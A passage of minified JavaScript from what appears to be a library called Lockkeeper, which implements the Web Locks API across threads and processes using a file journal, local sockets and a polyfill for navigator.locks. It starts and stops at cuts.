s="unavailable"===r&&o===t&&n.get(a);return!(!s||s.askedAgain||(s.askedAgain=!0,n.delete(a),d(s),e(),0))},eventHappened(e,r){let{type:o,number:a,fence:s}=e,i="request"===r.type;"granted"===o&&i&&r.steal&&n.forEach(e=>{!l(e)||e.fence||!r.names.includes(e.description.names[0])||(u(e,"broken"),p(e))});let c=e.client===t&&n.get(a);c&&(c.fence=s||c.fence,("granted"!==o||"open"===c.status)&&u(c,o,i&&r.client===t))},enterEarly(e){for(let{client:r,number:a}of e){let e=n.get(a);r===t&&!o.has(a)&&e&&"open"===e.status&&!1===e.description.steal&&u(e,"granted")}},compare({held:e,pending:r},a){n.forEach(n=>{let{number:s,status:i,description:c}=n,d=e=>e.number===s&&e.client===t,f=e.find(d);f?(n.fence=f.fence,"open"===i&&u(n,"granted")):l(n)&&!a.some(d)?(u(n,"broken"),p(n)):!o.has(s)&&!r.some(d)&&u(n,c.ifAvailable?"unavailable":"broken")})},lose(e){s.forEach(e=>{e.entersFirst=!1}),n.forEach(t=>{e||"held"===t.status?u(t,"lost"):"granted"===t.news&&(t.news="",s.delete(t))})},tellListeners(e,t=!0){let r=({news:e,entersFirst:r})=>t||!("granted"===e||r),n=[...s].filter(r),o=n.some(e=>"granted"!==e.news);for(let e of n){if(o&&"granted"===e.news||!s.delete(e))continue;let{news:t,listener:r}=e;e.news="",e.status="granted"===t||e.entersFirst?"held":"ended","held"===e.status&&r("granted",e.fence),!("granted"===t||e.entersFirst&&"ended"===e.status)&&(e.status="ended",r("removed"===t?"broken":t,0))}[...s].some(r)&&e()}};return h})(()=>{b.isIdle()?b.start():d||S.soon()}),p=((e,t)=>{let r=!1,n=!1,o={add(){r=!0},hasNews:()=>r,addSoon(){r=!0,o.soon()},now(){r&&(r=!1,e.tellListeners(()=>{r=!0,o.soon()}))},soon(){!r||n||(n=!0,t(()=>{n=!1,o.now()}))}};return o})(f,a),h=((e,t)=>{let r=e({fence:0}),n=new Set;return{core:r,members:()=>n,begin:e=>(r.reset(e),r.snapshot()),restore(e){r.restore(e),n=new Set(r.state().members.map(e=>e.client)),t.replaced()},take({by:e,operations:o}){for(let a of o){let o=or(r,a);"join"===a.type?n.add(a.client):"gone"===a.type&&n.delete(a.client),t.applied(a,o,e)}}}})(t,{applied(e,t,r){let n=b.client();"gone"===e.type?[M,k].forEach(t=>t?.forget(e.client)):"tick"!==e.type&&e.client===n&&(u=e.number);let o="gone"===e.type&&e.client===n;for(let a of t)a.client===n&&!l&&!o&&"joined"!==a.type&&(f.eventHappened(a,e),"removed"!==a.type&&p.add()),r===n&&y.caused(a)},replaced(){l=!0,p.add()}}),{core:m,members:g}=h,w=e.createJournal({randomId:e.randomId,snapshot:()=>m.snapshot(),begin:()=>h.begin(1e3*e.wallClock()),restore:h.restore,apply(e){u=0,h.take(e),u&&!l&&f.operationDelivered(u)}}),b=(({surroundings:e,own:t,journal:r,joined:n,left:o,again:a,tell:s})=>{let l,i,{life:c,setTimer:d,warn:u,randomId:f,keepAlive:p}=e,h="idle",m="",g=ur,w=((e,t)=>{let r,n=0;return{retry(o,a){n||e(`Lockkeeper: ${o.message}; trying again until it works`),n=Math.min(Math.max(100,2*n),1e4),r&&r(),r=t(a,n)},pause:()=>n,over(){n&&(n=0,r&&r(),r=void 0)}}})(u,(e,t)=>d(e,t,p)),b=async()=>{h="joining";let o=m=f();t.begin(o);let a,s=()=>m===o&&"joining"===h,u=!1;try{e.prepare(),u=!0,a=await c.hold(o),await y(s)}catch(e){if(a?.close(),!s())return;return r.close(),void(cr(e)||u&&"ENOENT"===ot(e)?w.retry(e,()=>s()&&b()):k.fail(e))}s()?(l=a,i=void 0,h="member",w.over(),g=d(v,dr),n()):a.close()},y=async e=>{for(;e();)try{return void r.open()}catch(t){if(!t.isFormer||await c.hasStrangers())throw t;e()&&r.succeed()}},v=()=>{g=d(v,dr);try{if(k.look(),"member"!==h)return;r.touch(),c.touch(m)}catch(e){k.failed(e)}},M=()=>{h="idle",g(),w.over(),o(),r.close(),l?.close(),l=void 0},k={client:()=>m,isMember:()=>"member"===h,isIdle:()=>"idle"===h,reason:()=>i,start:()=>{b()},keep(e){e&&p?l?.ref():l?.unref()},lost(){t.lose(!1),M(),b(),s()},look(){r.isRemoved()&&(u("Lockkeeper: the journal was removed; this context starts anew"),k.lost())},failed(e){let{syscall:t,message:r}=e;cr(e)&&t?w.retry(e,a):cr(e)||"ENOENT"===ot(e)?(u(`Lockkeeper: ${r}; this context starts anew`),k.lost()):k.fail(e)},works:w.over,pause:w.pause,fail(e){i=e,t.lose(!0),M(),t.operationDelivered(1/0),s()},leave(){t.lose(!0),M(),s(),t.busy()&&b()}};return k})({surroundings:e,own:f,journal:w,again(){(k||M).doubt(),S.soon()},joined(){l=!1,S.begin(),n.listen(b.client(),{rung:D,alarmed:()=>k?.alarmed(),stirred:()=>k?.stirred(),cut:e=>k?.cut(e)}),I.visitSome(Math.floor(o())),S.soon(),r.sweep(g()).catch(()=>{})},left(){i=!1,E.stop(),$.stop(),M.stop(),k?.stop(),n.close()},tell:p.addSoon}),y=(({bell:e,members:t,client:r,firstPath:n,notices:o})=>{let a=new Set,s=!1,l=!1,i=o=>{let a=[...t()].filter(e=>e!==r());a.length&&e.ringAll(a,o,n())},c={caused(e){e.client!==r()&&a.add(e.client),"expired"===e.type&&c.queueChanged()},queueChanged(){o()||(s=!0)},announce(e){o()?.announce(e),!(t().size<2)&&e.some(fr)&&(s=!0,i({client:r(),number:e[e.length-1].number}))},ring(){s&&i(),(!s||o())&&a.forEach(t=>o()?.wasTold(t)||e.ring(t)),l=l||a.size>0,a.clear(),s=!1,o()?.written()},hasRung(){let e=l;return l=!1,e}};return c})({bell:n,members:g,client:b.client,firstPath:w.firstPath,notices:()=>k}),v={surroundings:e,journal:w,core:m,members:g,isNeeded:()=>i&&b.isMember(),client:b.client},M=lr({...v,died:e=>I.bury([e]),failed:e=>b.isMember()&&b.fail(e)}),k=n.kernel&&(({surroundings:e,kernel:t,journal:r,core:n,members:o,client:a,isNeeded:s,isOpen:l,read:i,lookout:c})=>{let d,{bell:u,now:f,setTimer:p}=e,h=new Map,m=new Set,g=new Map,w=new Map,b=!1,y=0,v=-1/0,M=!1,k=-1/0,I=0,$="",S=1/0,E=()=>{},O=()=>Math.min(20+4*n.requestCount(),200),P=()=>`${r.path()} ${r.position()}`,q=e=>{let t=f()+e;t>=S||(E(),S=t,E=p(j,e))},x=()=>{b=!0,d||t.attend(r.path())},A=()=>{b=!1,d?.(),d=void 0,t.unattend()},j=()=>{if(S=1/0,!s())return;let e=f()-I;if(!b&&!M&&e<O())return void q(O()-e);if(M=!1,t.heed(r.firstPath()),i(),!s())return;$=P();for(let[e,t]of w)(n.last(e)>=t||!o().has(e))&&w.delete(e);let l=n.state();c.lookAt(l);let d=(e=>{let t=(({held:e,pending:t},r,n)=>{let o=[...e,...t],a=new Set(t.flatMap(e=>e.client===r?e.names:[])),s=o.length-1-[...o].reverse().findIndex(e=>e.client===r&&!e.fence),l=new Map;for(let e of o.slice(0,s)){if(!n.has(e.client)||!e.names.some(e=>a.has(e)))continue;let t=l.get(e.client);t?t.push(e.number):l.set(e.client,[e.number])}return l})(e,a(),sr(e,a())),r=g;g=new Map;let o="promised";for(let[e,s]of t){let t=r.get(e)||new Map,l=s.filter(e=>!t.get(e)),i=l.filter(e=>!t.has(e));g.set(e,new Map(s.map(e=>[e,!!t.get(e)]))),i.length&&u.ring(e,{from:a(),last:n.last(a()),behind:i}),i.length&&"promised"===o&&(o="asked"),l.length>i.length&&(o="late")}return[...e.held,...e.pending].some(e=>e.client!==a()&&(e.deadline<1/0||e.hold<1/0||e.limit>0))?"late":o})(l);"late"===d||w.size||f()<k?(x(),q(200)):(A(),q("promised"===d?5e3:50))},T={hasRead(){I=f()},settle(){b&&x(),P()!==$&&q(b?200:O())},doubt(){$=""},hear({from:e,last:t,behind:r,promises:o,number:i},d){if(r){let o=r.filter(l);for(let t of o)h.set(t,(h.get(t)||new Map).set(e,d));n.last(e)>=t&&o.length&&d({from:a(),promises:o}),o.length<r.length&&d()}else if(o){let t=g.get(e);for(let e of o)t?.has(e)&&t.set(e,!0)}else n.last(e)<i&&s()&&(w.set(e,i),c.expect(e,i),x())},announce(e){for(let t of e)"drop"===t.type&&(h.get(t.request)?.forEach((e,r)=>{e({from:a(),number:t.number}),m.add(r)}),h.delete(t.request))},leave(){new Map([...h.values()].flatMap(e=>[...e])).forEach(e=>e({from:a(),number:Number.MAX_SAFE_INTEGER}))},wasTold:e=>m.has(e),written:()=>m.clear(),alarmed(){k=f()+1e3,s()&&x(),i()},stirred(){let e=f();y=e-v>160?0:Math.min(Math.max(2*y,5),80),v=e,i(),b&&y&&!d&&(t.unattend(),d=p(()=>{d=void 0,b&&s()&&x()},y))},cut(e){!g.delete(e)||!s()||(x(),q(50))},forget(e){g.delete(e)&&s()&&(M=!0,q(20)),h.forEach(t=>t.delete(e))},rest(){E(),S=1/0,A(),$="",t.rest()},stop(){T.rest(),h.clear(),w.clear(),g.clear()}};return T})({...v,kernel:n.kernel,lookout:M,isOpen:f.isOpen,read:()=>{N()}}),I=(({life:e,copy:t,membership:r,ringing:n,attempt:o,read:a,write:s,tell:l})=>{let{core:i,members:c}=t,d={bury(t){o(()=>{a();let o=r.isMember()?t.filter(e=>c().has(e)):[];o.length&&(s(o.map(e=>({type:"gone",client:e}))),n.queueChanged(),o.forEach(e.bury))}),l()},async visit(t){let n=[...t].filter(e=>e!==r.client()),o=await Promise.all(n.map(e.isAlive)),a=n.filter((e,t)=>!o[t]);return a.length&&d.bury(a),a.length>0},visitSome(e){let t=[...c()],r=e%(t.length||1);d.visit([...t,...t].slice(r,r+Math.min(3,t.length)))},buryBefore(e){let t=d.withRequests(e);return t.size>0&&d.visit(t)},withRequests(e){if(c().size<2)return new Set;let{held:t,pending:n}=i.state(),o=[...t,...n].filter(t=>!e||t.names.some(t=>e.includes(t))),a=new Set(o.map(e=>e.client));return a.delete(r.client()),a}};return d})({life:r,copy:h,membership:b,ringing:y,attempt:e=>x(e),read:()=>P(),write:e=>q(e),tell:p.soon}),$=(({surroundings:{now:e,setTimer:t},core:r,pause:n,tick:o})=>{let a=0,s=()=>{},l=()=>{let t=Math.floor(e());return a=Math.max(a,r.time()-t),t+a};return{timed(e){let t=l();return t>r.time()?[{type:"tick",now:t},...e]:e},settle(){let e=r.nextDeadline();e<1/0&&(s=t(o,Math.min(Math.max(n()||1,e-l()),2147483647)))},stop:()=>s()}})({surroundings:e,core:m,pause:b.pause,tick:()=>(x(()=>q([])),p.soon())}),S=(({surroundings:{now:e,defer:t},own:r,membership:n,isBusy:o,attempt:a,write:s,tell:l})=>{let i=!1,c=0,d=()=>{for(i=!1,e()-c>=1e3&&(c=e(),n.look());n.isMember();){let e=r.outstanding();if(!e.length)return;s(e)}},u=()=>{let e=i;i=!1,e&&a(d),l()};return{begin(){c=e()},now:()=>a(d),soon(){i||(i=!0,o()?t(()=>t(()=>t(()=>t(u)))):t(u))}}})({surroundings:e,own:f,membership:b,isBusy:()=>i,attempt:e=>x(e),write(e){y.announce(e),q(e)},tell:p.now}),E=(({own:e,core:t,journal:r,membership:n,setTimer:o})=>{let a=new Set,s=new Set,l=!1,i=()=>e.waits()&&e.holds(),c=()=>`${r.path()} ${r.position()}`,d=()=>{let t=[...a].filter(({number:e})=>!s.has(e));n.keep(e.busyBesides(t.length+s.size))},u=()=>{if(l)return;l=!0;let e=c();o(()=>{l=!1,n.isMember()&&i()&&(e===c()?(s=((e,t)=>{let r=new Map,n=new Set;for(let o of e){if(o.client!==t||!o.fence&&o.deadline<1/0)continue;let e=!!o.fence;for(let t of o.fence?[]:o.names){let a=r.get(t)||[],s=a.filter(e=>ar(e,o)),l=s.length?s:o.limit&&a.length>=o.limit?a:[];l.length&&(e=!0,[...l,o].forEach(({number:e})=>n.add(e)))}e&&o.names.forEach(e=>r.set(e,[...r.get(e)||[],o]))}return n})(t.requests(),n.client()),s.size&&d()):u())},10)};return{detach(e){a.add(e)},update(){(a.size||s.size)&&(a.forEach(e=>"ended"===e.status&&a.delete(e)),s=new Set,d()),i()&&u()},stop(){s=new Set}}})({own:f,core:m,journal:w,membership:b,setTimer:e.setTimer}),O=()=>{let[e]=f.outstanding(),t=m.last(b.client());t>=0&&l&&(f.operationDelivered(t),f.compare(m.state(),[])),l=!1,t<0&&(!e||"join"!==e.type)&&b.lost()},P=()=>{w.read(),k?.hasRead(),(l||!g().has(b.client()))&&O()},q=e=>{w.append({by:b.client(),operations:$.timed(e)}),b.isMember()&&P()},x=e=>{if(b.isMember()){try{if(e(),!b.isMember())return;w.tidy(),l&&O(),b.works()}catch(e){b.failed(e)}y.ring(),A()}},A=()=>{c||s(j),c=!0},j=()=>{c=!1,b.isMember()&&(T(),E.update(),y.hasRung()&&i&&n.stayAwake(N))},T=()=>{$.stop(),f.busy()!==i&&(i=!i,b.keep(i),i||k?.rest()),i&&($.settle(),(k||M).settle())},D=(e,t)=>{x(P),b.isMember()&&e&&(k?k.hear(e,t):m.last(e.client)<e.number&&M.expect(e.client,e.number)),p.now()},N=()=>{x(P);let e=p.hasNews();return p.now(),e},L=async e=>{if(await f.mark(e),b.reason())throw b.reason()};return nr({clientId:b.client,request:(e,t)=>f.request(e,(e,r)=>t(e,r,"lost"===e?b.reason():void 0)),drop(e){!e.fence&&g().size>1&&y.queueChanged(),d=b.isMember(),f.drop(e),d=!1,b.isMember()&&(S.now(),p.soon())},detach(e){E.detach(e),A()},join(){b.isIdle()&&b.start()},forceRelease:e=>L({type:"force-release",names:e}),query:async()=>(await L(),await I.visit(I.withRequests()),m.state()),async inspect(){await L(),await I.visit(g());let[e,t]=[String(w.number()),w.position()];return{client:b.client(),leader:"",log:e,count:t,alone:g().size<2,state:m.state()}},leave(){b.isIdle()||(x(()=>{k?.leave(),q([{type:"gone",client:b.client()}])}),b.leave())}},I.buryBefore)},hr=require("node:fs"),mr=require("node:net"),gr=require("node:buffer"),wr=require("node:path"),br=i(require("node:process"),1),yr=require("node:timers"),vr={};s(vr,{hold:()=>xr,isHeld:()=>Ar,pathOf:()=>qr});var Mr,kr=require("node:fs"),Ir=require("node:fs/promises"),{O_CREAT:$r,O_EXCL:Sr,O_NONBLOCK:Er,O_RDONLY:Or,O_RDWR:Pr}=kr.constants,qr=e=>`${e}!`,xr=async e=>{let t=await(0,Ir.open)(qr(e),$r|Sr|Pr|32|Er,384);return{close(){try{(0,kr.unlinkSync)(qr(e))}catch{}t.close().catch(()=>{})}}},Ar=e=>{try{return(0,kr.closeSync)((0,kr.openSync)(qr(e),16|Or|Er)),!1}catch(e){return"ENOENT"!==ot(e)}},jr=["EACCES","EPERM"],Tr=()=>{},Dr=(e,t)=>{let r=t.slice(0,12);if("win32"===br.default.platform)return`\\\\.\\pipe\\lockkeeper\\${(0,wr.resolve)(e).replace(/[\\:]/g,"-")}\\${r}`;let n=(0,wr.join)(e,r),o=gr.Buffer.byteLength(n)-103;if(o>0)throw new Error(`Lockkeeper: ${e} is too long a path for the sockets in it. Use one that is shorter by ${o} byte${o>1?"s":""}.`);return n},Nr=((e,t=mr.connect)=>{let r=e=>{let r=t(e);return r.unref(),r.on("error",Tr),r.resume(),r},n=(t,r)=>"ENOENT"===r||"ECONNREFUSED"===r&&!(e&&e.isHeld(t));return{pathOf:Dr,async holdAlive(t,r=Tr){let n=e&&await e.hold(t);try{let e=await((e,t)=>new Promise((r,n)=>{let o=(0,mr.createServer)(e=>{e.unref(),e.on("error",Tr),e.resume(),t(e)});o.on("error",n),o.listen({path:e,exclusive:!0},()=>r(o)),o.unref()}))(t,r);return"win32"!==br.default.platform&&(0,hr.lstatSync)(t),{ref:()=>{e.ref()},unref:()=>{e.unref()},close(){e.close(),n?.close()}}}catch(e){throw n?.close(),e}},watchAlive(e,t,o=Tr,a=Tr){let s,l=!0,i=0,c=()=>{if(!l)return;let d;s=r(e),s.on("error",e=>{d=e}),s.on("close",()=>{let r=d?ot(d):"";l&&(n(e,r)?t():d&&jr.includes(r)?o(d):i++<5?c():(0,yr.setTimeout)(c,50).unref())}),a(s)};return c(),()=>{l=!1,s.destroy()}},isAlive:e=>new Promise(t=>{let o=r(e),a=e=>{(0,yr.clearTimeout)(s),o.destroy(),t(e)};o.ref();let s=(0,yr.setTimeout)(a,250,!0);o.on("error",t=>a(!n(e,ot(t)))),o.on("connect",()=>a(!0))}),bury(t){for(let r of e?[t,e.pathOf(t)]:[t])try{(0,hr.unlinkSync)(r)}catch{}}}})("linux"!==br.default.platform&&"win32"!==br.default.platform?vr:void 0),Lr=/[-+!]$/,Cr=e=>{if(void 0===e||"process"===e||"host"===e)return e;throw new TypeError(`A manager's scope is 'process' or 'host', not '${e}'`)},Rr=()=>{let[e,t]=Te.default.hrtime();return 1e3*e+t/1e6},Wr=()=>(0,xe.randomUUID)().replace(/-/g,"").slice(0,24),Fr=(e,{pathOf:t,holdAlive:r,watchAlive:n,isAlive:o,bury:a},s)=>{let l=r=>t(e,"g"+r);l(Wr());let i=s||{hold:e=>r(l(e)),watch:(e,t,r)=>n(l(e),t,r)};return{hold:i.hold,watch:i.watch,isAlive:e=>o(l(e)),bury:e=>a(l(e)),touch(t){let r=new Date;for(let n of[e,l(t)])(0,Ae.utimes)(n,r,r,()=>{})},async hasStrangers(){if("win32"===Te.default.platform)return!0;let t=(0,Ae.readdirSync)(e).filter(e=>"log"!==e&&!e.startsWith("g")&&!Lr.test(e));return(await Promise.all(t.map(t=>o((0,je.join)(e,t))))).includes(!0)},async sweep(t){let r=new Set([...t].map(l));for(let t of(0,Ae.readdirSync)(e)){let n=(0,je.join)(e,t);if("log"===t||r.has(n))continue;let{ctimeMs:s}=(0,Ae.lstatSync)(n,{throwIfNoEntry:!1})||{ctimeMs:1/0};Date.now()-s>36e5&&!await o(n)&&a(n)}}}},zr=e=>{try{(0,ce.writeSync)(2,`${e}\n`)}catch{}},Ur=e=>"function"==typeof e?t=>{Promise.resolve(t).then(e)}:(void 0===e?Br((()=>{let{LOCKKEEPER_DEBUG:e}=globalThis;try{return e||de.default.env.LOCKKEEPER_DEBUG}catch{return}})()):e)?zr:void 0,Br=e=>!["","0","false","undefined","null"].includes(String(e)),Jr=typeof self>"u"?globalThis:self,Vr=(e,t={},r)=>((e,{scope:t,keepAlive:r=!0,directory:n},o)=>{let a={scope:Cr(t),directory:void 0===n?void 0:(0,je.resolve)(n)},s=bt(e,a),l="host"===t||parseInt(Te.default.versions.node)>=22?Nr:Be,i="host"===t?(({holdAlive:e,watchAlive:t},r)=>{let n="",o=er,a=er,s=new Map,l=new Map,i=(e,t)=>o((e=>{if(e)try{return JSON.parse(e)}catch{return}})(t),t=>tr(e,t)),c=(e,t)=>{l.get(e)===t&&l.delete(e),t.stop()},d=e=>{let o={onDeath:er,onFailure:er,isWatched:!1,stop:er};return l.set(e,o),o.stop=t(r(e),()=>{c(e,o),o.onDeath()},e=>o.onFailure(e),t=>{o.socket=t,t.write(`${n}\n`),rr(t,e=>i(t,e)),t.on("close",()=>l.get(e)===o&&a(e))}),(()=>{if(!(l.size<=64))for(let[e,t]of l)if(!t.isWatched)return c(e,t),void a(e)})(),o};return{async hold(t){let n=new Set,{ref:o,unref:l,close:c}=await e(r(t),e=>{let t="";n.add(e),rr(e,r=>{t?i(e,r):s.set(t=r,e)}),e.on("close",()=>{n.delete(e),s.get(t)===e&&(s.delete(t),a(t))})});return{ref:o,unref:l,close(){c(),n.forEach(e=>e.destroy())}}},watch(e,t,r){let n=l.get(e)||d(e);return Object.assign(n,{onDeath:t,onFailure:r,isWatched:!0}),()=>{Object.assign(n,{onDeath:er,onFailure:er,isWatched:!1})}},listen(e,t,r){n=e,o=t,a=r},say(e,t){let r=s.get(e)||(l.get(e)||d(e)).socket;r&&tr(r,t)},forget(e){let t=l.get(e);t&&c(e,t),s.get(e)?.destroy()},close(){o=a=er,l.forEach((e,t)=>c(t,e))}}})(Nr,e=>Nr.pathOf(s,"g"+e)):void 0;return pr({prepare:()=>{bt(e,a)},createJournal:e=>(({directory:e,randomId:t,snapshot:r,begin:n,restore:o,apply:a,sizes:s=Qt})=>{let l=(e=>{let t=(0,Ct.join)(e,"log"),r=e=>(0,Ct.join)(t,e),n=()=>(0,Lt.readdirSync)(t),o=(e,t=0)=>(0,Lt.openSync)(r(e),t|zt|Rt,384);return{folder:t,path:r,openFirst(){try{(0,Lt.mkdirSync)(t,{mode:448})}catch(e){if("EEXIST"!==ot(e))throw e}return o(Ut,Wt)},open(e){try{return o(e)}catch(e){if("ENOENT"!==ot(e))throw e;return-1}},create:e=>(0,Lt.closeSync)(o(e,Wt|Ft)),list:()=>n().sort((e,t)=>Bt(e)-Bt(t)),inodeOf:e=>(0,Lt.statSync)(r(e),{throwIfNoEntry:!1})?.ino||0,removeOld(e,t){let o=Bt(e);for(let a of n()){let n=t?a===t:Bt(a)===o&&a!==e,s=Bt(a)<o&&a!==Ut;(n||s)&&(0,Lt.rmSync)(r(a),{force:!0})}},touch(e){let t=new Date;for(let n of e)(0,Lt.utimesSync)(r(n),t,t)}}})(e),i=-1,c=0,d="",u=0,f=s.first,p=1/0,h=!1,m=!1,g=!1,w=!0,b=!1,y="",v=!1,M=[],k=jt.Buffer.allocUnsafeSlow(16384),I=(()=>{let e=Gt.Buffer.allocUnsafeSlow(16384),t={length:0,record:void 0},r={append(n,o,a=""){let s=`${a}${o.by?(({by:e,operations:t})=>{let r=0,n="";for(let e of t)!r&&"number"in e&&(r=e.number),n+=`,${Kt(e)}`;return`[${Vt(e)},${r}${n}]`})(o):JSON.stringify(o)}\n`;3*s.length>e.length&&(e=Gt.Buffer.allocUnsafeSlow(4*s.length));let l=e.write(s);if(t={length:l,record:o},(0,Yt.writeSync)(n,e,0,l)!==l){if(a)throw Object.assign(new Error("there is no space for an entry"),{code:"ENOSPC",syscall:"write"});r.append(n,o,"\n")}},takeBack(n,o){if(o===t.length&&0===n.compare(e,0,o,0,o))return r.forget(),t.record},forget(){t.length=0}};return r})(),$=(e,t)=>{i>=0&&(0,Tt.closeSync)(i),i=t,d=e,u=0,h=m=g=b=!1,I.forget()},S=(e,t)=>I.append(i,e,t),E=e=>S({head:4,state:jt.Buffer.from(e).toString("base64")},"\n"),O=(e,t)=>{p=t+Math.max(s.marks,4*e.length)},P=({head:e,state:t},r)=>{if(!h){if(e>4)throw new Error(`Lockkeeper: ${l.folder} was written by a newer version of the package. Use that version here too.`);h=!0,m=e<4,!m&&(f=Math.max(d===Ut?s.first:s.next,4*t.length),O(t,r?r.mark:0),w&&(w=!1,r&&(u=r.mark),o(jt.Buffer.from(r?r.state:t,"base64"))))}},q=e=>{if(e.head)P(e);else{if(!h)return;if(e.close)b=!0;else{if(m)return;e.mark?O(e.state,e.mark):a(e)}}},x=e=>{let t=l.open(e);return t>=0&&$(e,t),t>=0},A=()=>{w=!0;for(let e=0;e<1e3;e++){M.length||(M=l.list());let e=M.pop();if(e&&x(e))return}throw new Error(`Lockkeeper: nothing to be read in ${l.folder}`)},j=()=>Object.assign(new Error(`Lockkeeper: an older version of the package is at work in ${l.folder}. End its threads and processes, or give them this version.`),{isFormer:!0}),T=()=>{if(d===Ut)E(n());else{if(g)throw j();y&&w&&x(y)?v=!0:w?A():E(r())}},D=({close:e})=>{let t=m;M=[],x(e)?g=t:A()},N=()=>{if(w&&0===u&&(()=>{if(v)return!1;let{size:e}=(0,Tt.fstatSync)(i);k.length<e&&(k=jt.Buffer.allocUnsafeSlow(2*e));let t=(e=>{let t=e.indexOf('{"head":');if(t<0||t>0&&e[t-1]!==Dt.charCodeAt(0))return;let r=Nt(e,t);if(!r)return;let n=e.indexOf(Dt,t);if(n>=0){let t=Nt(e,n+1);return t&&{head:r,close:t}}let o=e.lastIndexOf('\n{"mark":');return{head:r,mark:o>t?Nt(e,o+1):void 0}})(k.subarray(0,(0,Tt.readSync)(i,k,0,e,0)));if(!t)return!1;let{head:r,close:n,mark:o}=t;return y="",n&&r.head<=4?(m=r.head<4,y=m?"":d,D(n)):P(r,o),!m||!!n})())return!1;let e=(0,Tt.readSync)(i,k,0,k.length,u);if(0===e)return!0;let t=h&&I.takeBack(k,e);if(t)return u+=e,q(t),b&&D(t),!t.close;let r=k.lastIndexOf(10,e-1)+1;if(0===r&&e===k.length)k=jt.Buffer.allocUnsafeSlow(2*k.length);else{let t=(e=>{for(let t=0;t<e;){let e,r=k.indexOf(10,t);try{e=JSON.parse(k.toString("utf8",t,r))}catch{}if(u+=r+1-t,t=r+1,e&&q(Array.isArray(e)?Zt(e):e),b)return e}})(r);if(!t)return e<k.length;D(t)}return!1},L=()=>{for(;;)if(N()){if(v=!1,m)throw j();if(h)return;T()}},C=()=>{let e=`${Bt(d)+1}-${t()}`;return l.create(e),S({close:e}),e};return{open(){let e=l.openFirst();w=!0,$(Ut,e),c=(0,Tt.fstatSync)(i).ino,L()},succeed(){m?C():E(n())},path:()=>l.path(d),firstPath:()=>l.path(Ut),position:()=>u,number:()=>Bt(d),append:S,read:L,tidy(){u>f?(()=>{let e=Bt(d),t=C();L(),l.removeOld(d,Bt(d)===e?t:void 0)})():u>p&&(S({mark:u,state:jt.Buffer.from(r()).toString("base64")}),L())},isRemoved(){if(l.inodeOf(Ut)!==c)return!0;if((0,Tt.fstatSync)(i).nlink>0)return!1;let e=d;return L(),d===e},touch:()=>l.touch([Ut,d]),close(){i>=0&&(0,Tt.closeSync)(i),i=-1}}})({directory:s,...e}),life:Fr(s,l,i),bell:i?Ue(Te.default.platform,i):Fe(s),now:Rr,wallClock:Date.now,randomId:Wr,setTimer(e,t,r=!1){let n=(0,De.setTimeout)(e,t);return r||n.unref(),()=>(0,De.clearTimeout)(n)},afterTask:e=>{(0,De.setImmediate)(e)},defer:e=>{Promise.resolve().then(e)},warn:e=>Te.default.emitWarning(e),keepAlive:r},o)})(e,t,r?r(qe):qe),_r=(e,t,r)=>{let n;return()=>n=n||Vr(e,t,r)},Hr=e=>{let t,r=0,n=e(),o=new Map,a=new Set,s=e=>{let t=o.get(e);return t||o.set(e,t=new Map),t},l=()=>{o.clear(),r=e();for(let e of a)e()},i=r=>Object.assign({},r,{apply(l){t=r;let i=r.apply(l);return((t,r)=>{let l=-1,i=(t,r)=>{l<0&&(l=Math.floor(e()-n)),s(t).set(r,l)};for(let{type:e,client:t,number:n}of r)"granted"===e?i(t,n):s(t).delete(n);"request"===t.type&&!r.some(({client:e,number:r})=>r===t.number&&e===t.client)&&i(t.client,t.number),"gone"===t.type&&o.delete(t.client),a.size&&a.forEach(e=>e(t,r))})(l,i),i},restore(e){r.restore(e),t=r,l()},reset(e){r.reset(e),t=r,l()}});return{watch:e=>(...t)=>{let r=e(...t);return"then"in r?r.then(i):i(r)},state:()=>t.state(),sinceOf(e,t){let a=o.get(e),s=a&&a.get(t);return void 0===s?r:n+s},listen:e=>(a.add(e),()=>{a.delete(e)})}},Kr=({HTMLIFrameElement:e},t)=>{if(!e)return;let{prototype:r}=e,{get:n}=Object.getOwnPropertyDescriptor(r,"contentWindow");T(r,{get contentWindow(){let e=n.call(this);try{"about:blank"===e.location.href&&t(e)}catch{}return e}})},Xr=(e,t,r,{force:n,insecure:o}={})=>{let{navigator:a}=e;if(a&&a.locks&&!n)return a.locks;if(!1===e.isSecureContext&&!o)return;if(!a)return t;let s=Object.getPrototypeOf(a),l=!s||s===Object.prototype||Object.getOwnPropertyDescriptor(a,"locks");T(l?a:s,{get locks(){if(this!==a)throw new TypeError("Illegal invocation");return t}});for(let t in r)Object.defineProperty(e,t,{value:r[t],writable:!0,configurable:!0});return t},Zr=e=>{let t=H(Jr,e);return{locks:t,install:r=>{let n=(e,t)=>Xr(e,t,{Lock:R,LockManager:_},r),o=n(Jr,t);return o===t&&(r&&r.join&&e().join(),Kr(Jr,e=>{e.LockManager!==_&&n(e,H(e,_r("",{window:e})))})),o}}},Gr=()=>Date.now(),Yr=Hr(Gr),Qr=Q(_r("",{},Yr.watch),{label:"",now:Gr,observation:Yr,hasLeader:!1,choosePrinter:()=>Ur(Mr)}),en=Zr(Qr),{locks:tn}=en,rn=e=>((e=>{void 0!==e&&(Object(e)!==e&&K(`install() takes its options as an object, not ${b(e)}.`),X(e.debug))})(e),e&&void 0!==e.debug&&({debug:Mr}=e),!Jr.navigator&&Object.defineProperty(Jr,"navigator",{value:{},writable:!0,configurable:!0}),en.install(e)),nn=new WeakMap,on={faceOf:e=>e===tn?{environment:k(Jr),openLog:Qr,observation:Yr}:nn.get(e)},an=async e=>w(await e.openLog().inspect(),e.observation.sinceOf),sn=e=>{let t=k(Jr);if((e=>{if("object"!=typeof e||null===e)return K(`createLockManager() needs an object with a name, or with the url of a claims service, not ${b(e)}.`);if(!("url"in e))return!1;"string"!=typeof e.url&&"[object URL]"!==Object.prototype.toString.call(e.url)&&K(`The option url must be a string, the address of a claims service, not ${b(e.url)}.`);for(let t of["name","scope","keepAlive","directory"])void 0!==e[t]&&K(`The option ${t} cannot be combined with url: the locks of a claims service belong to all who use its address.`);return!0})(e)){let{manager:r,openLog:n}=(e=>ie(Jr,e,()=>Ur(e.debug)))(e);return nn.set(r,{environment:t,openLog:n}),r}let{name:r,debug:n,options:o}=(({name:e,scope:t,keepAlive:r,directory:n,debug:o},a)=>{X(o),void 0!==t&&"process"!==t&&"host"!==t&&K(`The option scope must be 'process' or 'host', not ${b(t)}.`),"host"===t&&!a&&K("The option scope cannot be 'host' in a browser: there a manager reaches all contexts of the origin, and no other."),void 0!==n&&"host"!==t&&K("The option directory needs scope: 'host'."),void 0!==n&&("string"!=typeof n||""===n)&&K(`The option directory must be a path, not ${b(n)}.`),void 0!==r&&"boolean"!=typeof r&&K(`The option keepAlive must 